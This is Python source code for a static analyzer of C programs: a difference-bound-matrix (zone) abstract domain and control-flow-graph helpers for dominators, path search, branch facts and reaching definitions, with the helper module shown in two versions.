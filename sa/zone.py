"""Zone (difference-bound matrix) abstract domain: conjunctions of  x - y <= c  over integer variables, with a
distinguished zero variable (index 0).  Small and dense: functions have a few dozen variables."""
INF = float("inf")


class Zone:
    __slots__ = ("n", "m", "bottom")

    def __init__(self, n, m=None, bottom=False):
        self.n = n
        self.bottom = bottom
        if m is None:
            m = [[INF] * n for _ in range(n)]
            for i in range(n):
                m[i][i] = 0
        self.m = m

    def copy(self):
        return Zone(self.n, [row[:] for row in self.m], self.bottom)

    def grow(self, n):
        """extend to n variables (new ones unconstrained)"""
        if n <= self.n:
            return
        for row in self.m:
            row.extend([INF] * (n - self.n))
        for i in range(self.n, n):
            row = [INF] * n
            row[i] = 0
            self.m.append(row)
        self.n = n

    # ------------------------------------------------------------------ constraints
    def add(self, i, j, c):
        """v_i - v_j <= c, with incremental closure"""
        if self.bottom:
            return
        m = self.m
        if c >= m[i][j]:
            return
        if m[j][i] + c < 0:
            self.bottom = True
            return
        m[i][j] = c
        n = self.n
        # incremental closure: paths through the new edge i->j
        colj = [m[k][i] for k in range(n)]
        rowj = m[j]
        for k in range(n):
            a = colj[k]
            if a == INF:
                continue
            ac = a + c
            mk = m[k]
            for l in range(n):
                b = rowj[l]
                if b == INF:
                    continue
                v = ac + b
                if v < mk[l]:
                    mk[l] = v
        for k in range(n):
            if m[k][k] < 0:
                self.bottom = True
                return

    def forget(self, i):
        if self.bottom:
            return
        m = self.m
        for k in range(self.n):
            m[i][k] = INF
            m[k][i] = INF
        m[i][i] = 0

    def shift(self, i, d):
        """v_i := v_i + d"""
        if self.bottom or d == 0:
            return
        m = self.m
        for k in range(self.n):
            if k != i:
                if m[i][k] != INF:
                    m[i][k] += d
                if m[k][i] != INF:
                    m[k][i] -= d

    def assign_var(self, i, j, d):
        """v_i := v_j + d   (i != j)"""
        if self.bottom:
            return
        if i == j:
            self.shift(i, d)
            return
        self.forget(i)
        self.add(i, j, d)
        self.add(j, i, -d)

    def assign_const(self, i, c):
        self.assign_var(i, 0, c)

    def set_bounds(self, i, lo=None, hi=None):
        if lo is not None:
            self.add(0, i, -lo)
        if hi is not None:
            self.add(i, 0, hi)

    # ------------------------------------------------------------------ queries
    def lower(self, i):
        v = self.m[0][i]
        return -v if v != INF else -INF

    def upper(self, i):
        return self.m[i][0]

    def diff_upper(self, i, j):
        """upper bound of v_i - v_j"""
        return self.m[i][j]

    # ------------------------------------------------------------------ lattice
    def join(self, o):
        if self.bottom:
            return o.copy()
        if o.bottom:
            return self.copy()
        n = max(self.n, o.n)
        a, b = self, o
        if a.n < n:
            a = a.copy()
            a.grow(n)
        if b.n < n:
            b = b.copy()
            b.grow(n)
        m = [[max(a.m[i][j], b.m[i][j]) for j in range(n)] for i in range(n)]
        return Zone(n, m)

    def widen(self, o):
        """self = previous, o = new (already joined)"""
        if self.bottom:
            return o.copy()
        if o.bottom:
            return self.copy()
        n = max(self.n, o.n)
        a, b = self, o
        if a.n < n:
            a = a.copy()
            a.grow(n)
        if b.n < n:
            b = b.copy()
            b.grow(n)
        m = [[(a.m[i][j] if b.m[i][j] <= a.m[i][j] else INF) for j in range(n)] for i in range(n)]
        for i in range(n):
            m[i][i] = 0
        return Zone(n, m)

    def leq(self, o):
        if self.bottom:
            return True
        if o.bottom:
            return False
        n = max(self.n, o.n)
        for i in range(n):
            for j in range(n):
                x = self.m[i][j] if i < self.n and j < self.n else (0 if i == j else INF)
                y = o.m[i][j] if i < o.n and j < o.n else (0 if i == j else INF)
                if x > y:
                    return False
        return True

    def close(self):
        if self.bottom:
            return
        n = self.n
        m = self.m
        for k in range(n):
            mk = m[k]
            for i in range(n):
                a = m[i][k]
                if a == INF:
                    continue
                mi = m[i]
                for j in range(n):
                    v = a + mk[j]
                    if v < mi[j]:
                        mi[j] = v
        for i in range(n):
            if m[i][i] < 0:
                self.bottom = True
                return
