"""Small CFG helpers shared by structural rules: dominators, element-level must-pass-through search."""
from .ir import strip, walk


def succs(fn, bid):
    return [sc.get("b") for sc in fn.bmap[bid]["succ"] if sc.get("b") is not None]


def dominators(fn):
    """block id -> set of dominating block ids (iterative)."""
    ids = [b["id"] for b in fn.blocks]
    preds = {i: set() for i in ids}
    for b in fn.blocks:
        for s in succs(fn, b["id"]):
            preds[s].add(b["id"])
    # reachable blocks only
    reach = set()
    st = [fn.entry]
    while st:
        x = st.pop()
        if x in reach:
            continue
        reach.add(x)
        st.extend(succs(fn, x))
    dom = {i: set(reach) for i in reach}
    dom[fn.entry] = {fn.entry}
    changed = True
    while changed:
        changed = False
        for i in reach:
            if i == fn.entry:
                continue
            ps = [dom[p] for p in preds[i] if p in reach]
            new = set.intersection(*ps) if ps else set()
            new = new | {i}
            if new != dom[i]:
                dom[i] = new
                changed = True
    return dom


def block_exprs(b):
    """(index, line, expression) of a block's elements followed by its branch condition (index 'c')."""
    out = [(i, el["ln"], el["x"]) for i, el in enumerate(b["el"])]
    t = b.get("term")
    if t is not None and "c" in t:
        out.append(("c", t["ln"], t["c"]))
    return out


def find_sites(fn, pred):
    """[(block id, element index, line, node)] for every node n with pred(n) true."""
    out = []
    for b in fn.blocks:
        for i, ln, x in block_exprs(b):
            for n in walk(x):
                if pred(n):
                    out.append((b["id"], i, n.get("ln", ln), n))
    return out


def sure_loop_bodies(fn):
    """{header block id: first body block id} for counted loops whose first iteration certainly runs:
    `for (v = c1; v OP c2; ..)` with integer constants making the condition true on entry."""
    import operator
    ops = {">=": operator.ge, ">": operator.gt, "<": operator.lt, "<=": operator.le, "!=": operator.ne}
    preds = {}
    for b in fn.blocks:
        for s_ in succs(fn, b["id"]):
            preds.setdefault(s_, []).append(b["id"])
    out = {}
    for b in fn.blocks:
        t = b.get("term")
        if t is None or t.get("k") not in ("for", "while") or "c" not in t:
            continue
        c = strip(t["c"])
        if c is None or c.get("k") != "bin" or c["op"] not in ops:
            continue
        v, k2 = strip(c["l"]), strip(c["r"])
        if v is None or v.get("k") != "var" or k2 is None or k2.get("k") != "int":
            continue
        if not b["succ"] or b["succ"][0].get("b") is None:
            continue
        # entry predecessors: those not reachable from the body (no back edge)
        body = b["succ"][0]["b"]
        back = set()
        st = [body]
        while st:
            x = st.pop()
            if x in back or x == b["id"]:
                continue
            back.add(x)
            st.extend(succs(fn, x))
        ok = True
        n_entry = 0
        for p in preds.get(b["id"], []):
            if p in back:
                continue
            n_entry += 1
            pb = fn.bmap[p]
            init = None
            for el in pb["el"]:
                x = strip(el["x"])
                if x is not None and x.get("k") == "bin" and x["op"] == "=" and strip(x["l"]) is not None \
                        and strip(x["l"]).get("k") == "var" and strip(x["l"]).get("id") == v.get("id"):
                    r = strip(x["r"])
                    init = r["v"] if r is not None and r.get("k") == "int" else None
                elif x is not None and x.get("k") == "decl" and (x.get("var") or {}).get("id") == v.get("id"):
                    r = strip(x.get("init")) if x.get("init") is not None else None
                    init = r["v"] if r is not None and r.get("k") == "int" else None
            if init is None or not ops[c["op"]](init, k2["v"]):
                ok = False
        if ok and n_entry:
            out[b["id"]] = body
    return out


def escapes(fn, start, is_pass, exempt_edge=None, is_target=None):
    """Search forward from just after position start=(block id, element index) for a path that reaches a target
    (default: any return / the function exit) without executing an element for which is_pass(expr) holds and without
    taking an edge for which exempt_edge(block, successor position) holds.
    Returns None when every path passes, else the list of (block id, line) of one offending path."""
    bid0, idx0 = start
    sure = sure_loop_bodies(fn)
    sure_pass = set()
    for h, body in sure.items():
        for i, ln, x in block_exprs(fn.bmap[body]):
            if i != "c" and is_pass(x):
                sure_pass.add(h)
            break_ = x.get("k") == "ret"
            if break_:
                break
    seen = set()
    stack = [(bid0, idx0, [(bid0, None)])]
    while stack:
        bid, after, path = stack.pop()
        b = fn.bmap[bid]
        items = block_exprs(b)
        passed = False
        hit = None
        started = after is None
        for i, ln, x in items:
            if not started:
                if i == after:
                    started = True
                continue
            if is_pass(x):
                passed = True
                break
            if x.get("k") == "ret":
                if is_target is None or is_target(x):
                    hit = ln
                else:
                    passed = True       # a return that is not a target ends the path harmlessly
                break
        if hit is not None:
            return path + [(bid, hit)]
        if passed:
            continue
        if bid in sure_pass and (after is None or bid != bid0):
            continue          # a counted loop that certainly runs once and whose body starts with the passing element
        if bid == fn.exit:
            if is_target is None:
                return path + [(bid, None)]
            continue
        for k, sc in enumerate(b["succ"]):
            s = sc.get("b")
            if s is None:
                continue
            if exempt_edge is not None and exempt_edge(b, k):
                continue
            if s in seen:
                continue
            seen.add(s)
            t = b.get("term")
            stack.append((s, None, path + [(s, t.get("ln") if t else None)]))
    return None


def mentions_call(x, names):
    for n in walk(x):
        if n.get("k") == "call" and n.get("fn") in names:
            return True
    return False
