"""Small CFG helpers shared by structural rules: dominators, element-level must-pass-through search."""
from .ir import strip, walk


def succs(fn, bid):
    return [sc.get("b") for sc in fn.bmap[bid]["succ"] if sc.get("b") is not None]


def dominators(fn):
    """block id -> set of dominating block ids (iterative)."""
    ids = [b["id"] for b in fn.blocks]
    preds = {i: set() for i in ids}
    for b in fn.blocks:
        for s in succs(fn, b["id"]):
            preds[s].add(b["id"])
    # reachable blocks only
    reach = set()
    st = [fn.entry]
    while st:
        x = st.pop()
        if x in reach:
            continue
        reach.add(x)
        st.extend(succs(fn, x))
    dom = {i: set(reach) for i in reach}
    dom[fn.entry] = {fn.entry}
    changed = True
    while changed:
        changed = False
        for i in reach:
            if i == fn.entry:
                continue
            ps = [dom[p] for p in preds[i] if p in reach]
            new = set.intersection(*ps) if ps else set()
            new = new | {i}
            if new != dom[i]:
                dom[i] = new
                changed = True
    return dom


def block_exprs(b):
    """(index, line, expression) of a block's elements followed by its branch condition (index 'c')."""
    out = [(i, el["ln"], el["x"]) for i, el in enumerate(b["el"])]
    t = b.get("term")
    if t is not None and "c" in t:
        out.append(("c", t["ln"], t["c"]))
    return out


def find_sites(fn, pred):
    """[(block id, element index, line, node)] for every node n with pred(n) true."""
    out = []
    for b in fn.blocks:
        for i, ln, x in block_exprs(b):
            for n in walk(x):
                if pred(n):
                    out.append((b["id"], i, n.get("ln", ln), n))
    return out


def sure_loop_bodies(fn):
    """{header block id: first body block id} for counted loops whose first iteration certainly runs:
    `for (v = c1; v OP c2; ..)` with integer constants making the condition true on entry."""
    import operator
    ops = {">=": operator.ge, ">": operator.gt, "<": operator.lt, "<=": operator.le, "!=": operator.ne}
    preds = {}
    for b in fn.blocks:
        for s_ in succs(fn, b["id"]):
            preds.setdefault(s_, []).append(b["id"])
    out = {}
    for b in fn.blocks:
        t = b.get("term")
        if t is None or t.get("k") not in ("for", "while") or "c" not in t:
            continue
        c = strip(t["c"])
        if c is None or c.get("k") != "bin" or c["op"] not in ops:
            continue
        v, k2 = strip(c["l"]), strip(c["r"])
        if v is None or v.get("k") != "var" or k2 is None:
            continue
        ptr_form = False
        if k2.get("k") == "var" and c["op"] == "<":
            ptr_form = True       # `for (v = w - e - k; v < w; ..)` with k >= 1 and e unsigned: the body runs at least once
        elif k2.get("k") != "int":
            continue
        if not b["succ"] or b["succ"][0].get("b") is None:
            continue
        # entry predecessors: those not reachable from the body (no back edge)
        body = b["succ"][0]["b"]
        back = set()
        st = [body]
        while st:
            x = st.pop()
            if x in back or x == b["id"]:
                continue
            back.add(x)
            st.extend(succs(fn, x))
        ok = True
        n_entry = 0
        for p in preds.get(b["id"], []):
            if p in back:
                continue
            n_entry += 1
            pb = fn.bmap[p]
            init = None
            for el in pb["el"]:
                x = strip(el["x"])
                if x is not None and x.get("k") == "bin" and x["op"] == "=" and strip(x["l"]) is not None \
                        and strip(x["l"]).get("k") == "var" and strip(x["l"]).get("id") == v.get("id"):
                    r = strip(x["r"])
                    init = r["v"] if r is not None and r.get("k") == "int" else None
                elif x is not None and x.get("k") == "decl" and (x.get("var") or {}).get("id") == v.get("id"):
                    r = strip(x.get("init")) if x.get("init") is not None else None
                    init = r["v"] if r is not None and r.get("k") == "int" else None
            if ptr_form:
                good = False
                for el in pb["el"]:
                    x = strip(el["x"])
                    if x is not None and x.get("k") == "bin" and x["op"] == "=" and (strip(x["l"]) or {}).get("id") == v.get("id"):
                        r = strip(x["r"])
                        consts = 0
                        unsigned_only = True
                        while r is not None and r.get("k") == "bin" and r["op"] == "-":
                            sub = strip(r["r"])
                            if sub is not None and sub.get("k") == "int":
                                if sub["v"] < 0:
                                    unsigned_only = False
                                consts += sub["v"]
                            else:
                                st_ = sub
                                while st_ is not None and st_.get("k") == "cast":
                                    st_ = st_["e"]
                                tt = (sub or {}).get("t", "") + " " + ((st_ or {}).get("t", "") if st_ else "")
                                if "unsigned" not in tt and "uint" not in tt and "Size" not in tt:
                                    unsigned_only = False
                            r = strip(r["l"])
                        good = r is not None and r.get("k") == "var" and r.get("id") == k2.get("id") and consts >= 1 and unsigned_only
                if not good:
                    ok = False
                continue
            if init is None or not ops[c["op"]](init, k2["v"]):
                ok = False
        if ok and n_entry:
            out[b["id"]] = body
    return out


def escapes(fn, start, is_pass, exempt_edge=None, is_target=None, target_expr=None):
    """Search forward from just after position start=(block id, element index) for a path that reaches a target
    (default: any return / the function exit) without executing an element for which is_pass(expr) holds and without
    taking an edge for which exempt_edge(block, successor position) holds.
    Returns None when every path passes, else the list of (block id, line) of one offending path."""
    bid0, idx0 = start
    sure = sure_loop_bodies(fn)
    sure_pass = set()
    for h, body in sure.items():
        for i, ln, x in block_exprs(fn.bmap[body]):
            # the first thing the body evaluates (statement or branch condition)
            if is_pass(x):
                sure_pass.add(h)
            break
    seen = set()
    stack = [(bid0, idx0, [(bid0, None)], frozenset(), frozenset())]
    while stack:
        bid, after, path, scf, sw = stack.pop()
        b = fn.bmap[bid]
        items = block_exprs(b)
        passed = False
        hit = None
        started = after is None
        for i, ln, x in items:
            if not started:
                if i == after:
                    started = True
                continue
            if sw:
                # an assignment to a remembered switch scrutinee ends the correlation
                for m_ in walk(x):
                    if m_.get("k") == "bin" and m_.get("op") in ("=", "+=", "-=", "|=", "&=") and any(ftext(m_["l"]) == t_ for (t_, v_) in sw):
                        sw = frozenset((t_, v_) for (t_, v_) in sw if t_ != ftext(m_["l"]))
            if is_pass(x):
                passed = True
                break
            if target_expr is not None and target_expr(x):
                hit = ln
                break
            if x.get("k") == "ret":
                if target_expr is not None:
                    passed = True       # searching for an expression target: a return ends the path
                elif is_target is None or is_target(x):
                    hit = ln
                else:
                    passed = True       # a return that is not a target ends the path harmlessly
                break
        if hit is not None:
            return path + [(bid, hit)]
        if passed:
            continue
        if bid in sure_pass and (after is None or bid != bid0):
            continue          # a counted loop that certainly runs once and whose body starts with the passing element
        if bid == fn.exit:
            if is_target is None and target_expr is None:
                return path + [(bid, None)]
            continue
        t = b.get("term")
        swt = None
        if t is not None and t.get("k") == "switch" and "c" in t:
            swt = ftext(t["c"])
            cases = frozenset(sc_.get("case") for sc_ in b["succ"] if "case" in sc_)
            chosen = dict(sw).get(swt, "unset")
        for k, sc in enumerate(b["succ"]):
            s = sc.get("b")
            if s is None:
                continue
            if exempt_edge is not None and exempt_edge(b, k):
                continue
            nsw = sw
            if swt is not None:
                # correlated switches on the same (unassigned) scrutinee: follow only the arm consistent with the arm taken before
                if "case" in sc:
                    if chosen != "unset" and (chosen != sc["case"] if not isinstance(chosen, frozenset) else sc["case"] in chosen):
                        continue
                    nsw = frozenset([(t_, v_) for (t_, v_) in sw if t_ != swt] + [(swt, sc["case"])])
                else:
                    if chosen != "unset" and not isinstance(chosen, frozenset) and chosen in cases:
                        continue
                    if chosen == "unset":
                        nsw = frozenset([(t_, v_) for (t_, v_) in sw if t_ != swt] + [(swt, cases)])
            nscf = scf
            if t is not None and "c" in t and len(b["succ"]) == 2:
                atoms = set((txt, tr) for (txt, tr, nd) in _cond_atoms(t["c"], k == 0))
                # clang does not thread `!(A && B)` / `(A && B) == 0`: the operands are evaluated in their own blocks
                # (terminators 'and' / 'or') and the enclosing `if` re-tests the whole expression.  Operand outcomes seen
                # on this path prune the contradictory edge of that `if`.
                if any((txt, not tr) in scf for (txt, tr) in atoms):
                    continue
                if t.get("k") in ("and", "or", "&&", "||"):
                    nscf = frozenset(scf | atoms)
                else:
                    nscf = frozenset()
            if (s, nscf, nsw) in seen:
                continue
            seen.add((s, nscf, nsw))
            stack.append((s, None, path + [(s, t.get("ln") if t else None)], nscf, nsw))
    return None


def mentions_call(x, names):
    for n in walk(x):
        if n.get("k") == "call" and n.get("fn") in names:
            return True
    return False


# ------------------------------------------------------------------------------------------ guard facts
def _denames(e):
    if isinstance(e, dict):
        return {k: _denames(v) for k, v in e.items() if not (k == "n" and e.get("k") == "int")}
    if isinstance(e, list):
        return [_denames(x) for x in e]
    return e


def ftext(e):
    """canonical text of an expression for fact matching (named integer constants printed as numbers)"""
    from .pp import pp
    return pp(_denames(strip(e)))


def _cond_atoms(c, truth):
    """Atoms (text, truth) implied when condition c evaluates to `truth` (only the sound directions:
    a true conjunction gives both conjuncts, a false disjunction gives both negated disjuncts)."""
    from .pp import pp
    c = strip(c)
    if c is None:
        return []
    k = c.get("k")
    if k == "un" and c["op"] == "!":
        return _cond_atoms(c["e"], not truth)
    if k == "bin" and c["op"] == "&&" and truth:
        return _cond_atoms(c["l"], True) + _cond_atoms(c["r"], True)
    if k == "bin" and c["op"] == "||" and not truth:
        return _cond_atoms(c["l"], False) + _cond_atoms(c["r"], False)
    if k == "bin" and c["op"] in ("!=", "==") and strip(c["r"]) is not None and strip(c["r"]).get("k") == "int" \
            and strip(c["r"])["v"] == 0:
        return _cond_atoms(c["l"], truth if c["op"] == "!=" else not truth)
    if k == "bin" and c["op"] in ("&&", "||"):
        return []
    if k == "cond" and "c" in c and "a" in c and "b" in c:
        # (x ? 1 : 0) is x, (x ? 0 : 1) is !x  (boolean-valued macros)
        a, b_ = strip(c.get("a")), strip(c.get("b"))
        if a is not None and b_ is not None and a.get("k") == "int" and b_.get("k") == "int":
            if a["v"] != 0 and b_["v"] == 0:
                return _cond_atoms(c["c"], truth)
            if a["v"] == 0 and b_["v"] != 0:
                return _cond_atoms(c["c"], not truth)
    out = [(ftext(c), truth, c)]
    if k == "bin" and c["op"] in ("<", "<=", ">", ">=", "==", "!="):
        l = strip(c["l"])
        if l is not None and l.get("k") == "bin" and l["op"] == "=" and strip(l["l"]) is not None \
                and strip(l["l"]).get("k") == "var":
            # ((v = e) OP k) also establishes (v OP k)
            c2 = dict(c)
            c2["l"] = l["l"]
            out.append((ftext(c2), truth, c2))
    return out


def guard_facts(fn, kill_on_assign=True):
    """Forward must-analysis of branch facts: IN[block] = set of (condition text, truth) that hold on every path
    from the entry to the block (a fact dies when a variable it mentions is assigned)."""
    from .pp import pp
    ALL = None
    IN = {b["id"]: ALL for b in fn.blocks}
    if fn.entry is None:
        return {}
    IN[fn.entry] = frozenset()
    vars_of = {}

    def mentions(text_node):
        return set(n.get("id") for n in walk(text_node) if n.get("k") == "var" and "id" in n)

    def transfer_block(b, facts):
        facts = set(facts)
        # the branch condition is evaluated at the end of the block: an assignment inside it (`if ((rc = f()) < 0)`) kills
        # the facts about rc before the atoms of this condition are added on the outgoing edges
        t_ = b.get("term")
        xs = [el["x"] for el in b["el"]] + ([t_["c"]] if t_ is not None and "c" in t_ else [])
        for x_ in xs:
            for n in walk(x_):
                tgt = None
                if n.get("k") == "bin" and n["op"] in ("=", "+=", "-=", "|=", "&=", "^=", "<<=", ">>=", "*=", "/=", "%="):
                    tgt = strip(n["l"])
                elif n.get("k") == "un" and n["op"] in ("++", "--", "post++", "post--"):
                    tgt = strip(n["e"])
                elif n.get("k") == "decl":
                    tgt = n.get("var")
                if tgt is not None and tgt.get("k", "var") == "var" and "id" in tgt and kill_on_assign:
                    facts = set(f for f in facts if tgt["id"] not in vars_of.get(f[0], ()))
                elif tgt is not None and tgt.get("k") == "mem" and kill_on_assign:
                    key = pp(tgt)
                    facts = set(f for f in facts if key not in f[0])
        return facts
    work = [fn.entry]
    while work:
        bid = work.pop()
        b = fn.bmap[bid]
        if IN[bid] is ALL:
            continue
        out = transfer_block(b, IN[bid])
        t = b.get("term")
        for k, sc in enumerate(b["succ"]):
            s = sc.get("b")
            if s is None:
                continue
            add = set()
            if t is not None and "c" in t and t.get("k") in ("if", "and", "or", "for", "while", "do", "cond", "&&", "||", "?:") \
                    and len(b["succ"]) == 2:
                for (txt, truth, node) in _cond_atoms(t["c"], k == 0):
                    vars_of.setdefault(txt, mentions(node))
                    add.add((txt, truth))
            new = frozenset(out | add)
            if IN[s] is ALL:
                IN[s] = new
                work.append(s)
            else:
                m = IN[s] & new
                if m != IN[s]:
                    IN[s] = m
                    work.append(s)
    return {k: (v if v is not ALL else frozenset()) for k, v in IN.items()}


def reaching_defs(fn):
    """IN[block] = {var id: set(def ids)}; defs[def id] = (block id, element index, kind, rhs expression | None).
    kinds: 'decl', 'assign', 'outarg' (address passed to a call), 'param'."""
    defs = {}
    per_block = {}
    for b in fn.blocks:
        lst = []
        for i, ln, x in block_exprs(b):
            for n in walk(x):
                if n.get("k") == "decl" and "init" in n and "id" in (n.get("var") or {}):
                    lst.append((n["var"]["id"], (b["id"], i, "decl", n["init"], ln)))
                elif n.get("k") == "bin" and n["op"] == "=":
                    l = strip(n["l"])
                    if l is not None and l.get("k") == "var" and "id" in l:
                        lst.append((l["id"], (b["id"], i, "assign", n["r"], ln)))
                elif n.get("k") == "bin" and n["op"] in ("+=", "-=", "|=", "&=", "^=", "<<=", ">>="):
                    l = strip(n["l"])
                    if l is not None and l.get("k") == "var" and "id" in l:
                        lst.append((l["id"], (b["id"], i, "update", n, ln)))
                elif n.get("k") == "call":
                    for j, a in enumerate(n.get("a", [])):
                        a0 = strip(a)
                        if a0 is not None and a0.get("k") == "un" and a0["op"] == "&":
                            v = strip(a0["e"])
                            if v is not None and v.get("k") == "var" and "id" in v:
                                lst.append((v["id"], (b["id"], i, "outarg", {"call": n, "arg": j}, ln)))
        per_block[b["id"]] = lst
    for vid_defs in per_block.values():
        for vid, d in vid_defs:
            defs[id(d)] = d
    IN = {b["id"]: {} for b in fn.blocks}
    if fn.entry is None:
        return IN, defs
    for p in fn.params:
        if "id" in p:
            d = (fn.entry, None, "param", None, fn.line)
            defs[id(d)] = d
            IN[fn.entry].setdefault(p["id"], set()).add(id(d))
    work = [b["id"] for b in fn.blocks]
    while work:
        bid = work.pop()
        cur = {k: set(v) for k, v in IN[bid].items()}
        for vid, d in per_block[bid]:
            if d[2] == "update":
                cur.setdefault(vid, set()).add(id(d))
            else:
                cur[vid] = {id(d)}
        for s in succs(fn, bid):
            changed = False
            for vid, ds in cur.items():
                have = IN[s].setdefault(vid, set())
                if not ds <= have:
                    have |= ds
                    changed = True
            if changed:
                work.append(s)
    return IN, defs, per_block


def defs_at(fn, rd, bid, idx, vid):
    """definitions of local vid reaching element idx of block bid"""
    IN, defs, per_block = rd
    cur = set(IN[bid].get(vid, set()))
    for v, d in per_block[bid]:
        if d[1] == idx:
            break
        order = [i for i, _, _ in block_exprs(fn.bmap[bid])]
        if idx in order and d[1] in order and order.index(d[1]) >= order.index(idx):
            break
        if v == vid:
            if d[2] == "update":
                cur.add(id(d))
            else:
                cur = {id(d)}
    return [defs[i] for i in cur]


def edge_only_errors(fn, block, k, callvar=None):
    """Does every path starting with successor k of `block` end in an error return (negative constant, -expr, a
    local last assigned a negative constant, or `callvar` unchanged)?  Returns None if so, else the line of an
    offending return (0 for falling off the end of a non-void path)."""
    if k >= len(block["succ"]) or block["succ"][k].get("b") is None:
        return None
    seen = set()
    stack = [(block["succ"][k]["b"], frozenset())]
    while stack:
        bid, env = stack.pop()
        if (bid, env) in seen or len(seen) > 6000:
            continue
        seen.add((bid, env))
        bb = fn.bmap[bid]
        e = dict(env)
        done = False
        for j, ln, x in block_exprs(bb):
            for n in walk(x):
                if n.get("k") == "bin" and n["op"] == "=":
                    l = strip(n["l"])
                    if l is not None and l.get("k") == "var" and "id" in l:
                        r = strip(n["r"])
                        if r is not None and r.get("k") == "int":
                            e[l["id"]] = r["v"]
                        elif r is not None and r.get("k") == "un" and r["op"] == "-" and (strip(r["e"]) or {}).get("k") == "int":
                            e[l["id"]] = -strip(r["e"])["v"]
                        else:
                            e[l["id"]] = None
                elif n.get("k") == "bin" and n["op"] in ("+=", "-=", "|=", "&=", "^=", "<<=", ">>=", "*=", "/=", "%="):
                    l = strip(n["l"])
                    if l is not None and l.get("k") == "var" and "id" in l:
                        e[l["id"]] = None
                elif n.get("k") == "un" and n["op"] in ("++", "--", "post++", "post--", "&"):
                    l = strip(n["e"])
                    if l is not None and l.get("k") == "var" and "id" in l:
                        e[l["id"]] = None
            if x.get("k") == "ret":
                rv = strip(x.get("e")) if x.get("e") is not None else None
                if rv is None:
                    return ln
                if rv.get("k") == "int":
                    if rv["v"] >= 0:
                        return ln
                elif rv.get("k") == "un" and rv["op"] == "-":
                    pass
                elif rv.get("k") == "var":
                    if not (rv.get("id") == callvar and rv.get("id") not in e):
                        val = e.get(rv.get("id"), "unset")
                        if not (isinstance(val, int) and val < 0):
                            return ln
                else:
                    return ln
                done = True
                break
        if done:
            continue
        t_ = bb.get("term")
        if t_ is not None and "c" in t_ and len(bb["succ"]) == 2 and t_.get("k") != "switch":
            # a branch on a local flag whose constant is known on this path (`found = 1; ... if (found)`) is followed one way
            import re as _re
            for k_, sc_ in enumerate(bb["succ"]):
                if sc_.get("b") is None:
                    continue
                feas = True
                for (txt, tr, nd) in _cond_atoms(t_["c"], k_ == 0):
                    v_ = strip(nd)
                    if v_ is not None and v_.get("k") == "var" and isinstance(e.get(v_.get("id")), int):
                        if (e[v_["id"]] != 0) != tr:
                            feas = False
                    elif v_ is not None and v_.get("k") == "bin" and v_["op"] in ("==", "!=") and (strip(v_["l"]) or {}).get("k") == "var" \
                            and (strip(v_["r"]) or {}).get("k") == "int" and isinstance(e.get(strip(v_["l"]).get("id")), int):
                        holds = (e[strip(v_["l"])["id"]] == strip(v_["r"])["v"]) == (v_["op"] == "==")
                        if holds != tr:
                            feas = False
                if feas:
                    stack.append((sc_["b"], frozenset(e.items())))
            continue
        for s_ in succs(fn, bid):
            stack.append((s_, frozenset(e.items())))
    return None


def success_ret(x):
    """is the return element x possibly a success (non-negative) return?"""
    e = strip(x.get("e")) if x.get("e") is not None else None
    if e is None:
        return True
    if e.get("k") == "int":
        return e["v"] >= 0
    if e.get("k") == "un" and e["op"] == "-":
        return False
    return True


def ret_is_error(gf, bid, x):
    """A return element that is certainly an error: negative constant, -expr, or a variable known negative by a
    branch fact on every path to it ((v < 0) true, (v >= 0) false, (v == 0) false with ... not used)."""
    from .pp import pp
    e = strip(x.get("e")) if x.get("e") is not None else None
    if e is None:
        return False
    if e.get("k") == "int":
        return e["v"] < 0
    if e.get("k") == "un" and e["op"] == "-":
        return True
    if e.get("k") == "var":
        facts = gf.get(bid, ())
        n = e["n"]
        for txt, truth in facts:
            if truth and txt in ("(%s < 0)" % n, "(%s <= -1)" % n):
                return True
            if truth and txt.startswith("((%s = " % n) and txt.endswith(") < 0)"):
                return True         # if ((n = f(...)) < 0) return n;
            if (not truth) and txt in ("(%s >= 0)" % n, "(%s == 0)" % n + "__never__"):
                return True
    return False


def returns_with_atoms(fn, watch, limit=20000):
    """Path enumeration restricted to watched branch atoms: yields {(return line, return element, frozenset(atoms))}
    where atoms are the (text, truth) outcomes, along one path, of the branch conditions whose text satisfies watch();
    paths are merged when they agree on the watched atoms (so the state space is |blocks| x 2^|watched atoms|).
    An atom is dropped when a variable or field path it mentions is assigned later on the path."""
    from .pp import pp
    out = set()
    rets = {}
    seen = set()
    stack = [(fn.entry, frozenset())]
    while stack and len(seen) < limit:
        bid, atoms = stack.pop()
        if (bid, atoms) in seen:
            continue
        seen.add((bid, atoms))
        b = fn.bmap[bid]
        cur = set(atoms)
        done = False
        for i, ln, x in block_exprs(b):
            for n in walk(x):
                tgt = None
                if n.get("k") == "bin" and n["op"] in ("=", "+=", "-=", "|=", "&=", "^=", "<<=", ">>="):
                    tgt = strip(n["l"])
                elif n.get("k") == "un" and n["op"] in ("++", "--", "post++", "post--"):
                    tgt = strip(n["e"])
                if tgt is not None and tgt.get("k") in ("var", "mem"):
                    key = pp(tgt)
                    cur = set(a for a in cur if key not in a[0] or a[0].startswith("__const__ "))
                # single-exit style (`rc = PS_FAILURE; goto out; ... return rc;`): remember the constant a local holds
                if n.get("k") == "bin" and n["op"] == "=" and (strip(n["l"]) or {}).get("k") == "var" and strip(n["l"]).get("sc") == "l":
                    nm_ = strip(n["l"])["n"]
                    cur = set(a for a in cur if a[0] != "__const__ " + nm_)
                    r_ = strip(n["r"])
                    while r_ is not None and r_.get("k") == "cast":
                        r_ = strip(r_["e"])
                    if r_ is not None and r_.get("k") == "int":
                        cur.add(("__const__ " + nm_, r_["v"]))
                    elif r_ is not None and r_.get("k") == "un" and r_["op"] == "-" and (strip(r_["e"]) or {}).get("k") == "int":
                        cur.add(("__const__ " + nm_, -strip(r_["e"])["v"]))
                elif n.get("k") == "decl" and "init" in n and (n.get("var") or {}).get("n"):
                    r_ = strip(n["init"])
                    if r_ is not None and r_.get("k") == "int":
                        cur.add(("__const__ " + n["var"]["n"], r_["v"]))
                elif tgt is not None and tgt.get("k") == "var":
                    cur = set(a for a in cur if a[0] != "__const__ " + tgt.get("n", ""))
                elif n.get("k") == "call":
                    for a_ in n.get("a", []):
                        a0 = strip(a_)
                        if a0 is not None and a0.get("k") == "un" and a0["op"] == "&" and (strip(a0["e"]) or {}).get("k") == "var":
                            cur = set(a for a in cur if a[0] != "__const__ " + strip(a0["e"]).get("n", ""))
            if x.get("k") == "ret":
                e_ = strip(x.get("e")) if x.get("e") is not None else None
                while e_ is not None and e_.get("k") == "cast":
                    e_ = strip(e_["e"])
                if e_ is not None and e_.get("k") == "var":
